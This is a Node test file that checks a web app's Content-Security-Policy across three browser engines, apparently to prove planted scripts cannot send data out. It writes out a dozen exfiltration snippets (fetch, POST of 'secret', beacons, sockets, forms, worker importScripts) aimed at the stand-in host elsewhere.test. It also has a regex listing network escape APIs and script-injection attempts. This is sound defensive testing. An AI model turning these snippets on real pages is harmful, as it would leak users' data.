// Nothing can leave: whatever is planted in the page or in a worker reaches no server, in three engines; the same page without its policy does reach it.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFile, writeFile } from 'node:fs/promises';
import { after, before, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { output, product } from '../browser/open-page.js';
import { audited } from '../rows.js';
import { ENGINES, launch, pause, there, until } from './engine.js';
import { listener } from './listener.js';

/** @type {import('./listener.js').Listener} */
let server;
/** @type {string} */
let whole;
before(async () => { server = await listener(); whole = await readFile(product, 'utf8'); });
after(() => server.close());

const POLICY = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/;
const AT = 'http://elsewhere.test/';

/** What a script in the page could try, by the address that it would ask for. @type {Record<string, string>} */
const IN_PAGE = {
  fetch: `fetch('${AT}fetch').catch(() => {})`,
  post: `fetch('${AT}post', { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(() => {})`,
  request: `(() => { const request = new XMLHttpRequest(); request.open('GET', '${AT}request'); request.onerror = () => {}; request.send(); })()`,
  socket: `new WebSocket('ws://elsewhere.test/socket')`,
  events: `new EventSource('${AT}events')`,
  beacon: `navigator.sendBeacon('${AT}beacon', 'secret')`,
  image: `new Image().src = '${AT}image'`,
  background: `document.body.style.backgroundImage = 'url(${AT}background)'`,
  style: `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${AT}style' }))`,
  frame: `document.body.append(Object.assign(document.createElement('iframe'), { src: '${AT}frame' }))`,
  film: `document.body.append(Object.assign(document.createElement('video'), { src: '${AT}film', autoplay: true }))`,
  font: `new FontFace('planted', 'url(${AT}font)').load().catch(() => {})`,
  form: `(() => { const frame = document.createElement('iframe'); frame.name = 'planted'; const form = Object.assign(document.createElement('form'), { action: '${AT}form', method: 'post', target: 'planted' });
    form.append(Object.assign(document.createElement('input'), { name: 'secret', value: 'secret' })); document.body.append(frame, form); form.submit(); })()`,
};
/** And one in a worker, before the worker's own. */
const IN_WORKER = (/** @type {string} */ name) => `try { fetch('${AT}${name}-fetch').catch(() => {}) } catch {} try { const request = new XMLHttpRequest(); request.open('GET', '${AT}${name}-request'); request.send(); } catch {}
try { importScripts('${AT}${name}-script') } catch {} try { new WebSocket('ws://${name}.test/') } catch {};\n`;

/** The product with a planted worker of both kinds, with its policy or without. @param {string} name @param {boolean} policy */
async function planted(name, policy) {
  let page = policy ? whole : whole.replace(POLICY, '');
  for (const worker of ['key-worker', 'vault-worker']) page = page.replace(`<script type="text/plain" id="${worker}">`, (start) => start + IN_WORKER(worker));
  assert.notEqual(page.length, whole.length);
  const file = `${output}${name}.html`;
  await writeFile(file, page);
  return pathToFileURL(file).href;
}

/** Which of them came. @param {string[]} names @param {string[]} taken */
const came = (names, taken) => names.filter((name) => taken.some((one) => one.includes(`${AT}${name}`)));

test('the policy lets in the page’s own script and style, and nothing out', () => {
  const policy = Object.fromEntries((POLICY.exec(whole)?.[1] ?? '').split('; ').map((part) => [part.split(' ')[0], part.split(' ').slice(1).join(' ')]));
  const { 'script-src': script, 'style-src': style, ...rest } = policy;
  assert.deepEqual(rest, {
    'default-src': "'none'", 'worker-src': 'blob:', 'img-src': 'data:', 'connect-src': "'none'", 'form-action': "'none'", 'base-uri': "'none'",
    'require-trusted-types-for': "'script'", 'trusted-types': 'lit-html hardway',
  });
  assert.match(script, /^'sha256-[\w+/]{43}=' 'wasm-unsafe-eval'$/);
  assert.match(style, /^'sha256-[\w+/]{43}='$/);
  assert.ok(whole.indexOf('Content-Security-Policy') < whole.indexOf('<style'), 'before anything that it is for');
});

test('no script of the page knows a way out: no request, no navigation, no form, no other window', () => {
  const scripts = [...whole.matchAll(/<script(?: type="text\/plain" id="[\w-]+")?>([^]*?)<\/script>/g)].map(([, text]) => text);
  assert.equal(scripts.length, 3);
  const ways = /\bfetch\(|XMLHttpRequest|WebSocket|EventSource|sendBeacon|RTCPeerConnection|WebTransport|serviceWorker|importScripts|\bimport\(|window\.open|[^\w.]open\(["'`]|location\.(assign|replace|reload)\b|location(\.(href|search|hash|host|pathname))?\s*=[^=]|\.(submit|requestSubmit)\(|indexedDB|document\.cookie|sessionStorage|\bcaches\b|getDirectory|\.ping\b/;
  for (const text of scripts) assert.doesNotMatch(text, ways);
  for (const one of ['fetch("x")', 'location.href="x"', 'location="x"', 'window.open("x")', 'form.submit()', 'navigator.sendBeacon(x)']) assert.match(one, ways);
});

test('whoever serves it by make run forbids others to frame it, which no page can forbid by itself', async (t) => {
  const child = spawn(process.execPath, ['build/serve.mjs'], { cwd: new URL('../../', import.meta.url), env: { ...process.env, PORT: '0' }, stdio: ['ignore', 'pipe', 'inherit'] });
  t.after(() => child.kill());
  const [said] = await once(/** @type {import('node:stream').Readable} */ (child.stdout), 'data'), address = /http:\/\/127\.0\.0\.1:\d+\//.exec(String(said))?.[0] ?? '';
  const { headers } = await fetch(address);
  assert.equal(headers.get('content-security-policy'), "frame-ancestors 'none'");
  assert.equal(headers.get('x-frame-options'), 'DENY');
});

for (const name of ENGINES) test(name, async (t) => {
  const engine = await launch(name, server.proxy);
  t.after(() => engine.close());
  for (const policy of [false, true]) await t.test(`${engine.name}, ${policy ? 'with the policy nothing arrives' : 'without it, everything that is planted arrives'}`, async (t) => {
    const driver = await engine.page(), workers = ['key-worker', 'vault-worker'].flatMap((worker) => ['fetch', 'request', 'script'].map((way) => `${worker}-${way}`));
    t.after(() => driver.close());
    server.taken();
    await driver.open(await planted(`planted-${name}-${policy}`, policy));
    await there(driver, '.stage svg.diagram');
    // The workers have begun, or their script would not have run.
    await until(driver, "/[1-9]\\d* of 10|10 of 10/.test(document.querySelector('#ahead')?.textContent ?? '')");
    for (const attempt of Object.values(IN_PAGE)) await driver.run(`(() => { try { ${attempt}; } catch {} })()`);
    await pause(1500);
    const taken = server.taken();
    if (policy) assert.deepEqual(taken, []);
    else {
      assert.deepEqual(came(Object.keys(IN_PAGE).filter((way) => way !== 'socket'), taken), Object.keys(IN_PAGE).filter((way) => way !== 'socket'));
      assert.deepEqual(came(workers, taken), workers);
      for (const host of ['elsewhere.test', 'key-worker.test', 'vault-worker.test']) assert.ok(taken.some((one) => /^(CONNECT|UPGRADE) /.test(one) && one.includes(host)), `a socket to ${host}`);
    }
    t.diagnostic(`${taken.length} arrived`);
    await audited('engines', `${engine.name}: ${Object.keys(IN_PAGE).length} ways out of the page, 8 out of workers, ${policy ? 'with' : 'without'} the policy`, `${taken.length} arrived`);
  });

  await t.test(`${engine.name}, no text becomes script or markup`, async (t) => {
    const driver = await engine.page();
    t.after(() => driver.close());
    await driver.open(pathToFileURL(product).href);
    await there(driver, '.stage svg.diagram');
    const tried = (/** @type {string} */ act) => driver.run(`(() => { try { ${act}; return 'done'; } catch (thrown) { return thrown.name; } })()`);
    for (const act of [
      "document.body.innerHTML = '<b>x</b>'", "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')", "new Worker('blob:null/x')", "document.createElement('script').text = 'globalThis.ran = 1'",
      "trustedTypes.createPolicy('another', {})", "trustedTypes.createPolicy('hardway', {})", "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
    ]) assert.equal(await tried(act), 'TypeError', act);
    assert.equal(await tried("document.body.textContent.length"), 'done');
    await tried("const script = document.createElement('script'); script.append('globalThis.ran = 1'); document.body.append(script)");
    await tried("const button = document.createElement('button'); button.setAttribute('onclick', 'globalThis.ran = 1'); document.body.append(button); button.click()");
    await tried("location.href = 'javascript:globalThis.ran=1'");
    await pause(200);
    assert.equal(await driver.run('typeof globalThis.ran'), 'undefined');
  });
});
